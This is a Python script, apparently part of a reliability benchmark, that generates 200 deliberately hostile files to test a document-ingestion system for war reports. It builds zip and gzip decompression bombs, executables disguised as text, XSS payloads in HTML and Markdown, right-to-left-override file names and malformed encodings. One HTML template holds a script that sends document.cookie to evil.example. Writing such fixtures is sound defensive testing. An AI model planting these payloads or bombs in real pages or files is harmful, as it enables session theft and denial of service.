"""A deterministic corpus of 200 hostile documents for ingestion (issue 9, reliability).

    .venv/bin/python bench/hostile_corpus.py FOLDER [--no-big]
    .venv/bin/python manage.py ingest FOLDER

Same bytes on every run (a seeded random generator). What it holds, by file name prefix:
binary noise, archives that expand hugely (a zip of 256 MiB of zeros in about 250 KiB,
under several names and extensions, and a gzip one: they must be refused by their
signature, never expanded), executables and images under text extensions, single-line
files of 20 MiB just under, at and just over the size limit (`--no-big` leaves these
three out), HTML with <script>, event-handler and javascript: payloads, control
characters and terminal escapes, mixed encodings in one file, right-to-left overrides
(U+202E) in titles, NUL bytes, very long words, deeply nested and truncated HTML,
UTF-16, empty and blank files, Markdown with payloads, and articles that do state an
allegation (so candidate cases are opened) with payloads in their title, outlet,
dateline and excerpt. Some file names carry payloads too.
"""

import argparse
import gzip
import io
import random
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

MAX_BYTES = 20 * 1024 * 1024  # casefiles.ingestion.decode.MAX_BYTES (no Django import)
SEED = 20261123
XSS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">click</a>',
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
)
RLO = "\u202e"
ARTICLE = (
    "{title}\n\n{dateline}\n\nBy {byline}\n\n"
    "Russian troops shot three detained men in a forest near Bucha in March 2022, "
    "according to witnesses interviewed by {outlet}. {payload} The bodies were found "
    "after the withdrawal. Soldiers also looted homes in Bucha and took the residents' "
    "belongings, a resident said.\n\nSource: https://example.org/report/{n}\n"
)

Document = tuple[str, bytes]


def _zip_bomb() -> bytes:
    """256 MiB of zeros deflated into one entry: about 250 KiB on disk."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("report.txt", "w", force_zip64=True) as entry,
    ):
        chunk = bytes(1024 * 1024)
        for _ in range(256):
            entry.write(chunk)
    return out.getvalue()


def _with_comment(archive: bytes, comment: bytes) -> bytes:
    """The same archive with another comment: distinct bytes without recompressing."""
    out = io.BytesIO(archive)
    with zipfile.ZipFile(out, "a") as changed:
        changed.comment = comment
    return out.getvalue()


def binaries(rng: random.Random) -> Iterator[Document]:
    for n in range(20):
        yield f"binary_{n:02d}.txt", rng.randbytes(rng.randint(16, 64 * 1024))


def bombs(rng: random.Random) -> Iterator[Document]:
    bomb = _zip_bomb()
    names = (
        "bomb.zip",
        "bomb.txt",
        "bomb.html",
        "bomb.md",
        "bomb",
        "bomb.docx",
        "bomb.htm",
        "report.pdf.zip",
    )
    for n, name in enumerate(names):
        yield f"bomb_{n:02d}_{name}", _with_comment(bomb, f"copy {n}".encode())
    zeros = io.BytesIO()
    with gzip.GzipFile(fileobj=zeros, mode="wb", compresslevel=9, mtime=0) as packed:
        for _ in range(64):
            packed.write(bytes(1024 * 1024))
    yield "bomb_08_gzip.txt", zeros.getvalue()
    yield "bomb_09_gzip.gz", zeros.getvalue() + b"\x00"


def disguised(rng: random.Random) -> Iterator[Document]:
    heads = (
        b"\x89PNG\r\n\x1a\n",
        b"\xff\xd8\xff\xe0",
        b"%PDF-1.7\n",
        b"GIF89a",
        b"\x7fELF\x02\x01\x01",
        b"MZ\x90\x00",
        b"Rar!\x1a\x07\x00",
    )
    for n, head in enumerate(heads):
        yield f"disguised_{n:02d}.txt", head + rng.randbytes(2048)


def oversized(rng: random.Random) -> Iterator[Document]:
    words = b"witness statement shelling residential block "
    line = words * (MAX_BYTES // len(words) + 2)
    for label, size in (("under", MAX_BYTES - 1), ("at", MAX_BYTES), ("over", MAX_BYTES + 1)):
        yield f"oneline_{label}_20mb.txt", line[:size]


def html_payloads(rng: random.Random) -> Iterator[Document]:
    for n in range(30):
        payload = XSS[n % len(XSS)]
        body = (
            f"<!doctype html><html><head><title>Report {n} {payload}</title>"
            f"<meta name=\"author\" content='{payload}'>"
            f"<script>document.location='https://evil.example/?c='+document.cookie</script>"
            f"</head><body onload=alert({n})><h1>Shelling {payload}</h1>"
            f"<p>Witnesses describe the shelling of a hospital in Mariupol in March 2022."
            f" {payload}</p><img src=x onerror=alert({n})>"
            f'<a href="javascript:alert({n})">more</a></body></html>'
        )
        yield f"html_{n:02d}.html", body.encode()


def controls(rng: random.Random) -> Iterator[Document]:
    for n in range(15):
        noise = "".join(
            chr(rng.choice([*range(1, 9), 11, 12, *range(14, 32), 127, *range(0x80, 0xA0)]))
            for _ in range(40 * (n + 1))
        )
        text = (
            f"Field report {n}\n\n\x1b[31mRED\x1b[0m \x1b]0;title\x07 {noise} "
            "The team visited the market.\n"
        )
        yield f"controls_{n:02d}.txt", text.encode("utf-8")


def mixed_encodings(rng: random.Random) -> Iterator[Document]:
    for n in range(15):
        parts = [
            "Звіт про обстріл Ізюма.\n".encode(),
            "Обстрел больницы в Мариуполе.\n".encode("cp1251"),
            "Déclaration du témoin à Kramatorsk.\n".encode("latin-1"),
            "Свідчення з Бучі.\n".encode("koi8_u"),
        ]
        rng.shuffle(parts)
        yield f"mixed_{n:02d}.txt", b"".join(parts) * (n + 1)


def rtl_titles(rng: random.Random) -> Iterator[Document]:
    for n in range(15):
        title = f"Report {n} {RLO}txt.exe{RLO} about Bucha {RLO}{XSS[n % len(XSS)]}"
        yield (
            f"rtl_{n:02d}_{RLO}gpj.txt",
            ARTICLE.format(
                title=title,
                dateline="Tuesday, March 01, 2022",
                byline=f"{RLO}Anna{RLO}",
                outlet=f"The {RLO}Herald",
                payload=RLO * 3,
                n=n,
            ).encode(),
        )


def nul_bytes(rng: random.Random) -> Iterator[Document]:
    for n in range(15):
        text = f"Report {n}\n\nShelling\x00of a school in Kharkiv.\x00\x00 Witness {n}.\n"
        yield f"nul_{n:02d}.txt", text.encode() * (n + 1)


def long_words(rng: random.Random) -> Iterator[Document]:
    for n in range(10):
        word = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(10_000 * (n + 1)))
        yield (
            f"longword_{n:02d}.txt",
            f"Report on Bucha\n\nhttps://example.org/{word}\n\n{word} {word}\n".encode(),
        )


def nested_html(rng: random.Random) -> Iterator[Document]:
    for n in range(10):
        depth = 1000 * (n + 1)
        tag = ("div", "span", "table", "b", "blockquote")[n % 5]
        body = f"<{tag}>" * depth + "Shelling of Irpin in March 2022." + f"</{tag}>" * depth
        yield f"nested_{n:02d}.html", f"<html><body>{body}</body></html>".encode()


def truncated_html(rng: random.Random) -> Iterator[Document]:
    for n in range(10):
        page = (
            f"<html><head><title>Cut {n}</title></head><body><p>Attack on a kindergarten"
            f' in Kramatorsk <a href="javascript:alert({n})" '
        )
        yield f"truncated_{n:02d}.html", page[: len(page) - n].encode()


def utf16(rng: random.Random) -> Iterator[Document]:
    text = "Report on the shelling of Bucha {n}. " + XSS[0]
    for n in range(3):
        yield f"utf16_bom_{n:02d}.txt", text.format(n=n).encode("utf-16")
    for n in range(2):
        yield f"utf16_nobom_{n:02d}.txt", text.format(n=n).encode("utf-16-le")


def blank(rng: random.Random) -> Iterator[Document]:
    for n, data in enumerate((b"", b"   ", b"\n\n\n", b"\t \r\n", b"\xef\xbb\xbf")):
        yield f"blank_{n:02d}.txt", data


def markdown(rng: random.Random) -> Iterator[Document]:
    for n in range(10):
        payload = XSS[n % len(XSS)]
        text = (
            f"# Report {n} {payload}\n\n[click](javascript:alert({n})) "
            f'![x](x "onerror=alert(1)")\n\n> Troops looted homes in Bucha in March 2022. '
            f"{payload}\n\n<script>alert({n})</script>\n"
        )
        yield f"markdown_{n:02d}.md", text.encode()


def articles(rng: random.Random) -> Iterator[Document]:
    for n in range(20):
        payload = XSS[n % len(XSS)]
        name = f"article_{n:02d}_{payload}.txt" if n % 4 == 0 else f"article_{n:02d}.txt"
        yield (
            name.replace("/", "_"),
            ARTICLE.format(
                title=f"Executions near Bucha {payload}",
                dateline=f"05:16 PM Feb 23, 2023 | {payload} |",
                byline=payload,
                outlet=f"The Daily {payload}",
                payload=payload,
                n=n,
            ).encode(),
        )


GENERATORS: tuple[Callable[[random.Random], Iterator[Document]], ...] = (
    binaries,
    bombs,
    disguised,
    html_payloads,
    controls,
    mixed_encodings,
    rtl_titles,
    nul_bytes,
    long_words,
    nested_html,
    truncated_html,
    utf16,
    blank,
    markdown,
    articles,
)


def corpus(*, big: bool = True) -> Iterator[Document]:
    """The 200 documents (197 without the three 20 MiB lines), always the same bytes."""
    rng = random.Random(SEED)
    for generator in GENERATORS:
        yield from generator(rng)
    if big:
        yield from oversized(rng)


def write(folder: Path, *, big: bool = True) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, data in corpus(big=big):
        path = folder / name
        path.write_bytes(data)
        paths.append(path)
    return paths


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("folder", type=Path)
    parser.add_argument(
        "--no-big", action="store_true", help="leave out the three 20 MiB single-line files"
    )
    args = parser.parse_args()
    paths = write(args.folder, big=not args.no_big)
    print(f"{len(paths)} documents in {args.folder}")


if __name__ == "__main__":
    main()
